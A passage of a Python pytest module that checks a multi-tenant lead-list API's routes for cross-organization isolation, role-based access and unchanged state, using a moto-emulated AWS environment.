"""The security matrix: every HTTP route of template.yaml against the contract's rules on tenancy,
sharing, authentication, body size and hostile values.

The routes are read from template.yaml's HttpApi events here (not from the runtime), and every
parametrization is generated from that list: a route added to the template without its row in
ROWS fails `test_every_template_route_has_a_row` and every test that needs the row.

For each route, a legitimate request of organization A's owner (`ROWS[...].legit`, checked to
succeed) is the yardstick:

- a caller of organization B replays it (or uses A's tokens and ids on B's own resources): the
  contract's answer (404 for A's resources, 403 for A's organizationId in a body, 400 for A's
  paging tokens and search ids), none of A's names or ids in the answer, and nothing changed;
- a member of organization A who is neither admin nor named in a lead list's `userIds` gets 403
  on every route of that lead list (saved lists and searches belong to the whole organization);
- without a token, or with one lacking the organization claim: 401 on every route (as the
  function answers it: the claims the JWT authorizer would pass are absent or lack the
  organization; the local runtime's own gateway checks are in test_local_runtime.py);
- its body padded past 1 MiB: 413 on every route; padded to exactly 1 MiB it still succeeds;
- filter values and path ids that look like DynamoDB expressions or injections stay data: kept
  verbatim, matching (or excluding) nothing, naming no other item.

"Nothing changed" compares the whole tenant table, the export bucket and every queue's depth.
One moto world (catalog and both organizations' resources) serves the module; every test's writes
are undone after it, so each starts from the same state.
"""

from __future__ import annotations

import json
import time
from collections import defaultdict
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import boto3
import pytest
import yaml
from lead_list_helpers import assert_error, tenant_items
from moto import mock_aws

from conftest import ORG_A, ORG_B, Api, claims
from leadlists import queues
from leadlists.config import settings
from leadlists.repositories import dynamo, searches
from leadlists.services import webhook_urls
from leadlists_local import lambdas, moto_shims, resources, template
from leadlists_local.catalog import seed_catalog

TEMPLATE = Path(__file__).resolve().parents[2] / "template.yaml"
MIB = 1024 * 1024  # the contract's body limit
LEADS = "/api/v1/entities/leadlists"
SECRET = "alpha-secret"  # in every name organization A gives a resource
DATES = {"startDate": "2024-01-01T00:00:00.000Z", "endDate": "2024-03-31T23:59:59.000Z"}


# The routes, from template.yaml ------------------------------------------------------------------


class _AnyTagLoader(yaml.SafeLoader):
    """Reads CloudFormation short forms (!Ref, !GetAtt...) as plain values."""


_AnyTagLoader.add_multi_constructor("!", lambda loader, suffix, node: None)


def template_routes() -> list[str]:
    """Every HttpApi event of every function in template.yaml, as "METHOD /path"."""
    document = yaml.load(TEMPLATE.read_text(), Loader=_AnyTagLoader)  # noqa: S506 - SafeLoader
    found = []
    for resource in document["Resources"].values():
        if resource.get("Type") != "AWS::Serverless::Function":
            continue
        for event in (resource["Properties"].get("Events") or {}).values():
            if event.get("Type") == "HttpApi":
                props = event["Properties"]
                found.append(f"{props['Method'].upper()} {props['Path']}")
    return sorted(found)


ROUTES = template_routes()


# Requests and the world they run in --------------------------------------------------------------


@dataclass(frozen=True)
class Req:
    method: str
    path: str
    body: Any = None
    query: str = ""


@dataclass
class World:
    """Organization A's and B's resources, and callers of both."""

    ids: dict[str, str] = field(default_factory=dict)
    companies: list[str] = field(default_factory=list)
    persons: list[str] = field(default_factory=list)
    person_records: list[dict[str, Any]] = field(default_factory=list)
    baseline: dict[tuple[str, str], dict[str, Any]] = field(default_factory=dict)  # as scanned
    baseline_items: dict[tuple[str, str], str] = field(default_factory=dict)  # table_items()
    baseline_objects: set[str] = field(default_factory=set)
    created: dict[str, Any] = field(default_factory=dict)
    clients: dict[str, Any] = field(default_factory=dict)  # boto3 clients, made once
    us_totals: dict[str, int] = field(default_factory=dict)  # search kind -> US matches
    keys: dict[str, str] = field(default_factory=dict)  # API key secrets by kind

    @classmethod
    def probe(cls) -> World:
        """Placeholder ids: enough to see a route's request shape while collecting tests."""
        return cls(ids=defaultdict(lambda: "probe"), companies=["probe"] * 9, persons=["probe"] * 9)

    def __getitem__(self, name: str) -> str:
        return self.ids[name]

    def secrets(self) -> list[str]:
        """What only organization A knows: its names and the ids of its lists and searches."""
        return [SECRET] + [v for k, v in self.ids.items() if k.startswith("a_")]


CALLERS = {
    # Organization A: the owner (not an admin) created everything of A's; `shared` is named in
    # the lead lists' userIds; `admin` is not named but an admin. (The outsider, "mallory", is
    # neither: test_a_member_not_named_in_a_lead_list tries several role claims.)
    "owner": claims(ORG_A, user="alice", role="member"),
    "shared": claims(ORG_A, user="sam", role="member"),
    "admin": claims(ORG_A, user="ada", role="admin"),
    # Organization B's admin, the strongest caller another tenant has, and a plain member.
    "foreign": claims(ORG_B, user="bob", role="admin"),
    "foreign-member": claims(ORG_B, user="bea", role="member"),
}


def caller(name: str) -> Api:
    return Api(CALLERS[name])


def route_of(req: Req) -> str:
    found = lambdas.find_route(req.method, req.path)
    assert found is not None, f"no route serves {req.method} {req.path}"
    return f"{found[0].method} {found[0].path}"


def send(api: Api, req: Req, route: str | None = None) -> tuple[int, Any, dict[str, str]]:
    """One request; when `route` is given, it must be the route that serves it."""
    if route is not None:
        assert route_of(req) == route, f"{req} is not served by {route}"
    return api.call(req.method, req.path, req.body, query=req.query)


def ok(status: int, body: Any) -> None:
    assert 200 <= status < 300, body


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    """One moto world for the module, set up like conftest's `aws` fixture."""
    with pytest.MonkeyPatch.context() as patch, mock_aws():
        moto_shims.install()
        created = resources.create_all(boto3.Session(region_name="us-east-1"))
        env = resources.environment_all(created, parameters={})
        for key, value in env.items():
            patch.setenv(key, value)
        _clear_caches()
        # Webhook hosts resolve to a public address here (no network needed).
        patch.setattr(webhook_urls, "resolve", lambda host, port: ["93.184.216.34"])
        try:
            built = _build(created)
            built.clients = {n: boto3.client(n, region_name="us-east-1")
                             for n in ("dynamodb", "s3", "sqs")}  # fmt: skip
            built.baseline = {_key(i): i for i in tenant_items()}
            built.baseline_items = table_items()
            # The direct read of the emulator's table sees exactly what a Scan returns.
            assert built.baseline_items.keys() == built.baseline.keys()
            assert (f"ORG#{ORG_A}#LIST#{built['a_saved']}", "#META") in built.baseline_items
            built.baseline_objects = _objects(built)
            yield built
        finally:
            _clear_caches()


def _clear_caches() -> None:
    settings.cache_clear()
    dynamo.client.cache_clear()
    queues._client.cache_clear()


def _build(created: dict[str, Any]) -> World:
    cat = seed_catalog(companies=8, persons=40, seed=11)
    w = World(created=created)
    w.companies = [c["id"] for c in cat["companies"]]
    w.persons = [p["id"] for p in cat["persons"]]
    w.person_records = cat["persons"]
    owner, bob = caller("owner"), caller("foreign")

    def saved(api: Api, org: str, name: str, refresh: bool) -> str:
        body = {"organizationId": org, "listName": name, "contacts_found": 0,
                "filter": {"countries": ["United States"]}}  # fmt: skip
        status, answer, _ = api.post("/lists/save", body)
        assert status == 200, answer
        if refresh:
            status, answer, _ = api.post(f"/lists/refresh/{answer['id']}")
            assert status == 200 and answer["contactsNum"] > 1, answer
        return answer["id"]

    def lead(api: Api, kind: str, name: str, users: list[str]) -> str:
        body = {"name": name, "type": kind, "userIds": users, **DATES}
        status, answer, _ = api.post(LEADS, body)
        assert status == 201, answer
        return answer["id"]

    def search(api: Api, kind: str) -> tuple[str, str]:
        body = {"filter": {"countries": ["United States"]}, "pageSize": 1}
        status, answer, _ = api.post(f"/api/v1/search/{kind}", body)
        assert status == 200 and answer["nextToken"], answer
        w.us_totals[kind] = answer["total"]
        return answer["searchId"], answer["nextToken"]

    ids = w.ids
    _api_keys(w)
    key_users = [f"apikey:{ids['a_key_read']}", f"apikey:{ids['a_key_write']}"]
    ids["a_saved"] = saved(owner, ORG_A, f"{SECRET} saved", refresh=True)
    ids["a_saved_2"] = saved(owner, ORG_A, f"{SECRET} saved 2", refresh=False)
    ids["a_companies"] = lead(owner, "company", f"{SECRET} companies", ["sam", *key_users])
    ids["a_persons"] = lead(owner, "person", f"{SECRET} persons", ["sam", *key_users])
    status, _, _ = owner.post(
        f"{LEADS}/{ids['a_companies']}/add-companies", {"companyIds": w.companies[:2]}
    )
    assert status == 200
    status, _, _ = owner.post(
        f"{LEADS}/{ids['a_persons']}/add-prospects", {"persons": [{"id": p} for p in w.persons[:2]]}
    )
    assert status == 200
    ids["a_prospect_search"], ids["a_prospect_token"] = search(owner, "prospects")
    ids["a_company_search"], ids["a_company_token"] = search(owner, "companies")
    _, _, headers = owner.get(f"/lists/{ORG_A}", query="limit=1")
    ids["a_lists_token"] = headers["X-Next-Token"]
    _, page, _ = owner.get(f"/lists/{ids['a_saved']}/contacts", query="limit=1")
    ids["a_contacts_token"] = page["nextToken"]
    _, page, _ = owner.get(LEADS, query="limit=1")
    ids["a_leads_token"] = page["nextToken"]
    assert all(ids.values()), ids

    ids["b_saved"] = saved(bob, ORG_B, "beta saved", refresh=True)
    ids["b_companies"] = lead(bob, "company", "beta companies", [])
    ids["b_persons"] = lead(bob, "person", "beta persons", [])
    ids["a_saved_export"], ids["a_companies_export"] = _background_exports(ids)
    admin = caller("admin")
    for n in range(2):
        status, hook, _ = admin.post("/webhooks", _hook_body(f"{SECRET} hook {n}"))
        assert status == 201, hook
    ids["a_hook"] = hook["id"]
    _, page, _ = admin.get("/webhooks", query="limit=1")
    ids["a_hooks_token"] = page["nextToken"]
    return w


def _api_keys(w: World) -> None:
    """A's keys of each scope, a revoked and an expired one, and B's admin key: ids in `w.ids`,
    secrets in `w.keys` (A's secrets count as A's: no answer may show them)."""
    admin, bob = caller("admin"), caller("foreign")

    def create(api: Api, name: str, scopes: list[str]) -> tuple[str, str]:
        body = {"name": name, "scopes": scopes, "expiresAt": "2999-01-01T00:00:00Z"}
        status, answer, _ = api.post("/api-keys", body)
        assert status == 201, answer
        return answer["id"], answer["key"]

    for scope in ("read", "write", "admin"):
        w.ids[f"a_key_{scope}"], w.keys[scope] = create(admin, f"{SECRET} {scope}", [scope])
    w.ids["a_key_revoked"], w.keys["revoked"] = create(admin, f"{SECRET} revoked", ["admin"])
    status, _, _ = admin.delete(f"/api-keys/{w.ids['a_key_revoked']}")
    assert status == 200
    w.ids["a_key_expired"], w.keys["expired"] = create(admin, f"{SECRET} expired", ["admin"])
    boto3.client("dynamodb", region_name="us-east-1").update_item(
        TableName=settings().tenant_table,
        Key={"pk": {"S": f"APIKEY#{w.ids['a_key_expired']}"}, "sk": {"S": "#META"}},
        UpdateExpression="SET validUntil = :past",
        ExpressionAttributeValues={":past": {"S": "2020-01-01T00:00:00.000Z"}},
    )
    w.ids["b_key"], w.keys["foreign"] = create(bob, "beta key", ["admin"])
    w.ids.update({f"a_secret_{k}": v for k, v in w.keys.items() if k != "foreign"})


def _background_exports(ids: dict[str, str]) -> tuple[str, str]:
    """A running background export of A's saved list and of A's company lead list."""
    from leadlists.auth import Caller
    from leadlists.repositories import lead_lists, saved_lists
    from leadlists.services import export_jobs, export_sources

    alice = Caller(user_id="alice", org_id=ORG_A, is_admin=False)
    saved = export_sources.saved_list(ORG_A, saved_lists.get(ORG_A, ids["a_saved"]))
    lead = export_sources.lead_list(ORG_A, lead_lists.get(ORG_A, ids["a_companies"]))
    return export_jobs.start(alice, saved).exportId, export_jobs.start(alice, lead).exportId


# State: taken before and after a request, and restored after each test --------------------------


def _key(item: dict[str, Any]) -> tuple[str, str]:
    return item["pk"]["S"], item["sk"]["S"]


def table_items() -> dict[tuple[str, str], str]:
    """Every tenant item, (pk, sk) -> its attributes as canonical JSON text. Read from the
    emulator's table itself: a boto3 Scan costs milliseconds an item here, and the matrix takes
    this snapshot a few hundred times (the world fixture checks both reads agree)."""
    from moto.core import DEFAULT_ACCOUNT_ID
    from moto.dynamodb.models import dynamodb_backends

    backend = dynamodb_backends[DEFAULT_ACCOUNT_ID]["us-east-1"]
    return {
        (item.hash_key.value, item.range_key.value): json.dumps(
            item.to_json()["Attributes"], sort_keys=True, default=str
        )
        for item in backend.get_table(settings().tenant_table).all_items()
    }


def _objects(w: World) -> set[str]:
    listed = w.clients["s3"].list_objects_v2(Bucket=settings().export_bucket)
    return {o["Key"] for o in listed.get("Contents", [])}


def queue_depths() -> dict[str, int]:
    """Messages in every queue (visible, in flight or delayed), read from the emulator."""
    from moto.core import DEFAULT_ACCOUNT_ID
    from moto.sqs.models import sqs_backends

    return {
        name: queue.approximate_number_of_messages
        + queue.approximate_number_of_messages_not_visible
        + queue.approximate_number_of_messages_delayed
        for name, queue in sqs_backends[DEFAULT_ACCOUNT_ID]["us-east-1"].queues.items()
    }


def state(w: World) -> dict[str, Any]:
    """Everything a request could change: tenant items, export objects, queue depths."""
    depths = queue_depths()
    assert len(depths) == len(w.created["queues"]) > 0
    return {
        "items": table_items(),
        "objects": _objects(w),
        "queues": depths,
    }


def assert_unchanged(before: dict[str, Any], after: dict[str, Any]) -> None:
    added = after["items"].keys() - before["items"].keys()
    removed = before["items"].keys() - after["items"].keys()
    changed = {k for k in before["items"].keys() & after["items"].keys()
               if before["items"][k] != after["items"][k]}  # fmt: skip
    assert not (added or removed or changed), {"added": added, "removed": removed,
                                                "changed": changed}  # fmt: skip
    assert after["objects"] == before["objects"]
    assert after["queues"] == before["queues"]


@pytest.fixture(autouse=True)
def _restore(world: World) -> Iterator[None]:
    """Undo every write of the test, so the next one starts from the built world."""
    yield
    client = world.clients["dynamodb"]
    table = settings().tenant_table
    now = table_items()
    for key in now.keys() - world.baseline.keys():
        client.delete_item(TableName=table, Key={"pk": {"S": key[0]}, "sk": {"S": key[1]}})
    for key, item in world.baseline.items():
        if now.get(key) != world.baseline_items[key]:
            client.put_item(TableName=table, Item=item)
    for key in _objects(world) - world.baseline_objects:
        world.clients["s3"].delete_object(Bucket=settings().export_bucket, Key=key)


def assert_no_secret(w: World, req: Req, answer: Any) -> None:
    """The answer names nothing of organization A's that the request did not name itself."""
    asked = json.dumps([req.path, req.body, req.query])
    text = json.dumps(answer)
    leaked = [s for s in w.secrets() if s in text and s not in asked]
    assert not leaked, (leaked, answer)


# The matrix --------------------------------------------------------------------------------------


def _with_org(body: dict[str, Any], org: str) -> dict[str, Any]:
    return {**body, "organizationId": org}


@dataclass(frozen=True)
class Foreign:
    """One way organization B's caller reaches for organization A's data."""

    label: str
    request: Callable[[World], Req]
    status: int
    code: str | None = None  # None: a 2xx answer that must simply show nothing of A's
    # Who sends the legitimate twin and what it is, when it is not the route's `legit`.
    control: tuple[str, Callable[[World], Req]] | None = None


@dataclass(frozen=True)
class Row:
    legit: Callable[[World], Req]  # organization A's owner (or `owner`), answered 2xx
    # A same-organization member who is not admin and not named in the lead list's userIds:
    # "forbidden" (403), "hidden" (200 without the list), "allowed" (organization-wide), or
    # "admin-only" (403 for every member who is not an admin: API keys).
    outsider: str
    foreign: tuple[Foreign, ...]
    owner: str = "owner"  # who sends `legit`


def _hook_body(description: str) -> dict[str, Any]:
    return {"url": "https://hooks.example.com/in", "events": ["list.deleted"],
            "description": description}  # fmt: skip


def _save_body(w: World) -> dict[str, Any]:
    return {"organizationId": ORG_A, "id": w["a_saved"], "listName": f"{SECRET} saved",
            "contacts_found": 0, "filter": {"countries": ["Germany"]}}  # fmt: skip


REPLAY = "replays-owners-request"


# A saved list is changed or deleted by its creator (the owner here) or an admin: any other
# member of the organization is refused, as an outsider is from a lead list.
CREATOR = "creator"


def _row(
    legit: Callable[[World], Req],
    outsider: str,
    *foreign: Foreign,
    replayed: bool = True,
    owner: str = "owner",
) -> Row:
    """A route's row; unless `replayed` is off, B's caller also replays the owner's request
    (A's ids in its path or body) and gets 404."""
    cases = (Foreign(REPLAY, legit, 404, "NOT_FOUND"),) if replayed else ()
    return Row(legit, outsider, (*cases, *foreign), owner)


def _own_with_org(route_body: Callable[[World], tuple[str, str, dict[str, Any]]]) -> Foreign:
    """B's caller names organization A in a body sent to B's own resource: 403; the same body
    naming B is accepted (the control)."""

    def request(org: str) -> Callable[[World], Req]:
        def build(w: World) -> Req:
            method, path, body = route_body(w)
            return Req(method, path, _with_org(body, org))

        return build

    return Foreign("names-org-a-in-body", request(ORG_A), 403, "FORBIDDEN",
                   control=("foreign", request(ORG_B)))  # fmt: skip


def _listing(path: str) -> Callable[[World], Req]:
    return lambda w: Req("GET", path, query="limit=100")


def _lists_own(label: str, path: str, control: str) -> Foreign:
    """B's caller lists its own organization's collection: 200 showing nothing of A's; A's
    `control` caller lists A's (the control)."""
    return Foreign(label, _listing(path), 200, control=(control, _listing(path)))


def _next_token(label: str, foreign_req: Callable[[World], Req], owner_req: Callable[[World], Req]):
    """B's caller pages with a token A's owner was given: 400; the owner's own use works."""
    return Foreign(label, foreign_req, 400, "BAD_REQUEST", control=("owner", owner_req))


def _search_rows(kind: str) -> Row:
    path = f"/api/v1/search/{kind}"
    token = "a_prospect_token" if kind == "prospects" else "a_company_token"
    return _row(
        lambda w: Req("POST", path, {"filter": {"countries": ["United States"]}, "pageSize": 1}),
        "allowed",
        _next_token(
            "pages-with-org-a-search-token",
            lambda w: Req("POST", path, {"nextToken": w[token]}),
            lambda w: Req("POST", path, {"nextToken": w[token]}),
        ),
        _own_with_org(lambda w: ("POST", path, {"filter": {"countries": ["Germany"]}})),
        replayed=False,  # a search names nothing of A's: B's replay is B's own search
    )


ROWS: dict[str, Row] = {
    # Saved lists: the organization's, whoever is a member.
    "GET /lists/{id}": _row(
        lambda w: Req("GET", f"/lists/{w['a_saved']}"),
        "allowed",
        Foreign(
            "org-a-id-as-collection-key",
            lambda w: Req("GET", f"/lists/{ORG_A}"),
            404,
            "NOT_FOUND",
            control=("owner", lambda w: Req("GET", f"/lists/{ORG_A}")),
        ),
        _next_token(
            "pages-with-org-a-token",
            lambda w: Req("GET", f"/lists/{ORG_B}", query=f"nextToken={w['a_lists_token']}"),
            lambda w: Req("GET", f"/lists/{ORG_A}", query=f"nextToken={w['a_lists_token']}"),
        ),
    ),
    "POST /lists/save": _row(
        lambda w: Req("POST", "/lists/save", _save_body(w)),
        CREATOR,
        # B's own organization in the body, A's list id: that list does not exist for B.
        Foreign(
            "updates-org-a-list-by-id",
            lambda w: Req("POST", "/lists/save", _with_org(_save_body(w), ORG_B)),
            404,
            "NOT_FOUND",
        ),
        Foreign(
            "creates-in-org-a",
            lambda w: Req(
                "POST", "/lists/save", {**_save_body(w), "id": None, "listName": "beta in alpha"}
            ),
            403,
            "FORBIDDEN",
            control=(
                "foreign",
                lambda w: Req(
                    "POST",
                    "/lists/save",
                    {
                        **_save_body(w),
                        "id": None,
                        "listName": "beta in beta",
                        "organizationId": ORG_B,
                    },
                ),
            ),
        ),
        replayed=False,
    ),
    "POST /lists/refresh/{id}": _row(
        lambda w: Req("POST", f"/lists/refresh/{w['a_saved']}"),
        "allowed",
        _own_with_org(lambda w: ("POST", f"/lists/refresh/{w['b_saved']}", {})),
    ),
    "DELETE /lists/{id}": _row(lambda w: Req("DELETE", f"/lists/{w['a_saved']}"), CREATOR),
    "GET /lists/{id}/contacts": _row(
        lambda w: Req("GET", f"/lists/{w['a_saved']}/contacts"),
        "allowed",
        _next_token(
            "pages-own-list-with-org-a-token",
            lambda w: Req(
                "GET", f"/lists/{w['b_saved']}/contacts", query=f"nextToken={w['a_contacts_token']}"
            ),
            lambda w: Req(
                "GET", f"/lists/{w['a_saved']}/contacts", query=f"nextToken={w['a_contacts_token']}"
            ),
        ),
    ),
    "POST /lists/{id}/export": _row(
        lambda w: Req("POST", f"/lists/{w['a_saved']}/export"), "allowed"
    ),
    "GET /lists/{id}/exports/{exportId}": _row(
        lambda w: Req("GET", f"/lists/{w['a_saved']}/exports/{w['a_saved_export']}"),
        "allowed",
        Foreign(
            "reads-org-a-export-under-own-list",
            lambda w: Req("GET", f"/lists/{w['b_saved']}/exports/{w['a_saved_export']}"),
            404,
            "NOT_FOUND",
        ),
    ),
    # Lead lists: shared with named users; admins use them all.
    "POST /api/v1/entities/leadlists": _row(
        lambda w: Req("POST", LEADS, {"name": f"{SECRET} new", "type": "company", **DATES}),
        "allowed",
        _own_with_org(lambda w: ("POST", LEADS, {"name": "beta new", "type": "company", **DATES})),
        replayed=False,  # creating names nothing of A's: B's replay creates in B
    ),
    "GET /api/v1/entities/leadlists": _row(
        _listing(LEADS),
        "hidden",
        _lists_own("lists-own-lead-lists", LEADS, "owner"),
        _next_token(
            "pages-with-org-a-token",
            lambda w: Req("GET", LEADS, query=f"limit=1&nextToken={w['a_leads_token']}"),
            lambda w: Req("GET", LEADS, query=f"limit=1&nextToken={w['a_leads_token']}"),
        ),
        replayed=False,
    ),
    "GET /api/v1/entities/leadlists/{id}": _row(
        lambda w: Req("GET", f"{LEADS}/{w['a_companies']}"), "forbidden"
    ),
    "GET /api/v1/entities/leadlists/{id}/members": _row(
        lambda w: Req("GET", f"{LEADS}/{w['a_companies']}/members", query="limit=1000"),
        "forbidden",
    ),
    "PATCH /api/v1/entities/leadlists/{id}": _row(
        lambda w: Req(
            "PATCH",
            f"{LEADS}/{w['a_companies']}",
            {"name": f"{SECRET} renamed", "userIds": ["alice", "sam", "mallory"]},
        ),
        "forbidden",
        _own_with_org(lambda w: ("PATCH", f"{LEADS}/{w['b_companies']}", {"name": "beta 2"})),
    ),
    "DELETE /api/v1/entities/leadlists/{id}": _row(
        lambda w: Req("DELETE", f"{LEADS}/{w['a_companies']}"), "forbidden"
    ),
    "POST /api/v1/entities/leadlists/{id}/add-companies": _row(
        lambda w: Req(
            "POST", f"{LEADS}/{w['a_companies']}/add-companies", {"companyIds": w.companies[2:4]}
        ),
        "forbidden",
        _own_with_org(
            lambda w: (
                "POST",
                f"{LEADS}/{w['b_companies']}/add-companies",
                {"companyIds": w.companies[2:4]},
            )
        ),
    ),
    "POST /api/v1/entities/leadlists/{id}/add-prospects": _row(
        lambda w: Req(
            "POST",
            f"{LEADS}/{w['a_persons']}/add-prospects",
            {"persons": [{"id": p} for p in w.persons[2:4]]},
        ),
        "forbidden",
        Foreign(
            "selects-from-org-a-search",
            lambda w: Req(
                "POST",
                f"{LEADS}/{w['b_persons']}/add-prospects",
                {"selection": {"searchId": w["a_prospect_search"], "selectAll": True}},
            ),
            400,
            "BAD_REQUEST",
            control=(
                "owner",
                lambda w: Req(
                    "POST",
                    f"{LEADS}/{w['a_persons']}/add-prospects",
                    {"selection": {"searchId": w["a_prospect_search"], "selectAll": True}},
                ),
            ),
        ),
        _own_with_org(
            lambda w: (
                "POST",
                f"{LEADS}/{w['b_persons']}/add-prospects",
                {"persons": [{"id": w.persons[2]}]},
            )
        ),
    ),
    "POST /api/v1/entities/leadlists/{id}/export": _row(
        lambda w: Req("POST", f"{LEADS}/{w['a_companies']}/export"), "forbidden"
    ),
    "GET /api/v1/entities/leadlists/{id}/exports/{exportId}": _row(
        lambda w: Req("GET", f"{LEADS}/{w['a_companies']}/exports/{w['a_companies_export']}"),
        "forbidden",
        Foreign(
            "reads-org-a-export-under-own-list",
            lambda w: Req("GET", f"{LEADS}/{w['b_companies']}/exports/{w['a_companies_export']}"),
            404,
            "NOT_FOUND",
        ),
    ),
    "POST /api/v1/entities/leadlists/{id}/remove-companies": _row(
        lambda w: Req(
            "POST", f"{LEADS}/{w['a_companies']}/remove-companies", {"companyIds": w.companies[:1]}
        ),
        "forbidden",
        _own_with_org(
            lambda w: (
                "POST",
                f"{LEADS}/{w['b_companies']}/remove-companies",
                {"companyIds": w.companies[:1]},
            )
        ),
    ),
    "POST /api/v1/entities/leadlists/{id}/remove-prospects": _row(
        lambda w: Req(
            "POST", f"{LEADS}/{w['a_persons']}/remove-prospects", {"personIds": w.persons[:1]}
        ),
        "forbidden",
        _own_with_org(
            lambda w: (
                "POST",
                f"{LEADS}/{w['b_persons']}/remove-prospects",
                {"personIds": w.persons[:1]},
            )
        ),
    ),
    # Searches: the organization's; their ids and tokens are the resources.
    "POST /api/v1/search/prospects": _search_rows("prospects"),
    "POST /api/v1/search/companies": _search_rows("companies"),
    # B's replay (A's search id, with or without A's token) is a 404.
    "GET /api/v1/search/{searchId}": _row(
        lambda w: Req(
            "GET",
            f"/api/v1/search/{w['a_prospect_search']}",
            query=f"pageSize=1&nextToken={w['a_prospect_token']}",
        ),
        "allowed",
    ),
    # API keys: the organization's admins manage them (members get 403 whatever the id).
    "POST /api-keys": _row(
        lambda w: Req("POST", "/api-keys", {"name": f"{SECRET} new key", "scopes": ["read"]}),
        "admin-only",
        replayed=False,  # creating names nothing of A's: B's replay creates B's key
        owner="admin",
    ),
    "GET /api-keys": _row(
        _listing("/api-keys"),
        "admin-only",
        _lists_own("lists-own-keys", "/api-keys", "admin"),
        replayed=False,
        owner="admin",
    ),
    "DELETE /api-keys/{id}": _row(
        lambda w: Req("DELETE", f"/api-keys/{w['a_key_read']}"),
        "admin-only",
        Foreign(
            "revokes-org-a-key",
            lambda w: Req("DELETE", f"/api-keys/{w['a_key_read']}"),
            404,
            "NOT_FOUND",
        ),
        replayed=False,  # a member of B gets 403 for any id: it confirms nothing
        owner="admin",
    ),
    # Webhooks: the organization's, managed by its admins only.
    "POST /webhooks": _row(
        lambda w: Req("POST", "/webhooks", _hook_body(f"{SECRET} new hook")),
        "admin-only",
        replayed=False,  # creating names nothing of A's: B's replay creates in B
        owner="admin",
    ),
    "GET /webhooks": _row(
        _listing("/webhooks"),
        "admin-only",
        _lists_own("lists-own-webhooks", "/webhooks", "admin"),
        Foreign(
            "pages-with-org-a-token",
            lambda w: Req("GET", "/webhooks", query=f"limit=1&nextToken={w['a_hooks_token']}"),
            400,
            "BAD_REQUEST",
            control=(
                "admin",
                lambda w: Req("GET", "/webhooks", query=f"limit=1&nextToken={w['a_hooks_token']}"),
            ),
        ),
        replayed=False,
        owner="admin",
    ),
    "DELETE /webhooks/{id}": _row(
        lambda w: Req("DELETE", f"/webhooks/{w['a_hook']}"), "admin-only", owner="admin"
    ),
    "POST /webhooks/{id}/test": _row(
        lambda w: Req("POST", f"/webhooks/{w['a_hook']}/test"), "admin-only", owner="admin"
    ),
    "GET /webhooks/{id}/deliveries": _row(
        lambda w: Req("GET", f"/webhooks/{w['a_hook']}/deliveries"), "admin-only", owner="admin"
    ),
}


PROBE = World.probe()


def row(route: str) -> Row:
    if route not in ROWS:
        pytest.fail(f"{route} is in template.yaml but has no row in ROWS: add its cases")
    return ROWS[route]


def _route_id(route: str) -> str:
    return route.replace(" ", "-")


def test_every_template_route_has_a_row():
    assert len(ROUTES) == len(set(ROUTES)), ROUTES
    assert len(ROUTES) >= 17  # the routes the contract names
    assert set(ROUTES) - set(ROWS) == set(), "template routes without a row"
    assert set(ROWS) - set(ROUTES) == set(), "rows for routes the template no longer has"
    # The local runtime serves exactly these routes too (the handler tests call them through it).
    assert sorted(f"{r.method} {r.path}" for r in template.routes()) == ROUTES


@pytest.mark.parametrize("route", ROUTES, ids=_route_id)
def test_the_owners_request_succeeds(world, route):
    """The yardstick: every denial below is of a request that is valid for its owner."""
    spec = row(route)
    status, body, _ = send(caller(spec.owner), spec.legit(world), route)
    ok(status, body)


# 1. Another organization -------------------------------------------------------------------------


def _foreign_params() -> list[Any]:
    """Every case by B's admin; the replays also by a plain member of B, who must get the same
    404 (never a 403 that would confirm the id exists)."""
    params = []
    for route in ROUTES:
        cases = ROWS[route].foreign if route in ROWS else (None,)
        for case in cases:
            label = case.label if case else "missing-row"
            params.append(pytest.param(route, case, "foreign", id=f"{_route_id(route)}-{label}"))
            if case is not None and case.label == REPLAY:
                params.append(
                    pytest.param(
                        route, case, "foreign-member", id=f"{_route_id(route)}-{label}-by-member"
                    )
                )
    return params


@pytest.mark.parametrize(("route", "case", "who"), _foreign_params())
def test_another_organization_gets_nothing_and_changes_nothing(world, route, case, who):
    row(route)
    req = case.request(world)
    before = state(world)
    status, body, _ = send(caller(who), req, route)
    if case.code is None:
        assert status == case.status, body
    else:
        assert_error(status, body, case.status, case.code)
    assert_no_secret(world, req, body)
    assert_unchanged(before, state(world))
    # The legitimate twin succeeds, so the answer above is the tenancy rule's and not that of a
    # malformed request. (A replay's twin is the route's `legit`: test_the_owners_request_succeeds.)
    if case.control is not None:
        who, twin = case.control
        status, body, _ = send(caller(who), twin(world), route)
        ok(status, body)
        if case.code is None:  # B's answer lacked A's lists; the owner's has them
            assert SECRET in json.dumps(body)


# 2. The same organization: lead lists are shared with named users --------------------------------

ROLES = {
    "member": "member",
    "no-role-claim": None,
    "role-ADMIN-other-case": "ADMIN",
    "role-admin-padded": " admin",
}


def _outsider_params() -> list[Any]:
    params = []
    for route in ROUTES:
        kind = ROWS[route].outsider if route in ROWS else "missing-row"
        roles = ROLES if kind in ("forbidden", "admin-only", CREATOR) else {"member": "member"}
        for label, role in roles.items():
            params.append(pytest.param(route, role, id=f"{_route_id(route)}-{kind}-{label}"))
    return params


@pytest.mark.parametrize(("route", "role"), _outsider_params())
def test_a_member_not_named_in_a_lead_list(world, route, role):
    spec = row(route)
    req = spec.legit(world)
    outsider = Api(claims(ORG_A, user="mallory", role=role))
    before = state(world)
    status, body, _ = send(outsider, req, route)
    if spec.outsider in ("forbidden", "admin-only", CREATOR):
        assert_error(status, body, 403, "FORBIDDEN")
        assert_no_secret(world, req, body)
        assert_unchanged(before, state(world))
    elif spec.outsider == "hidden":
        assert status == 200, body
        assert body["leadLists"] == [], body  # A's lists are all shared with others only
        assert_unchanged(before, state(world))
    else:
        assert spec.outsider == "allowed", spec.outsider
        ok(status, body)  # saved lists and searches belong to the whole organization


# What only the lead list's owner (its creator) or an admin may do: shared users use the list.
OWNER_ONLY = {f"PATCH {LEADS}/{{id}}", f"DELETE {LEADS}/{{id}}"}


def _who_acts_for(outsider: str) -> tuple[str, ...]:
    """Who, besides the owner, a route of this kind serves: admins only, the creator and
    admins, or the users a lead list is shared with and admins."""
    if outsider == "admin-only":
        return ("admin",)
    return ("owner", "admin") if outsider == CREATOR else ("shared", "admin")


def _shared_params() -> list[Any]:
    return [
        pytest.param(route, who, id=f"{_route_id(route)}-{who}")
        for route in ROUTES
        if ROWS.get(route) is not None and ROWS[route].outsider != "allowed"
        for who in _who_acts_for(ROWS[route].outsider)
        if who == "admin" or route not in OWNER_ONLY
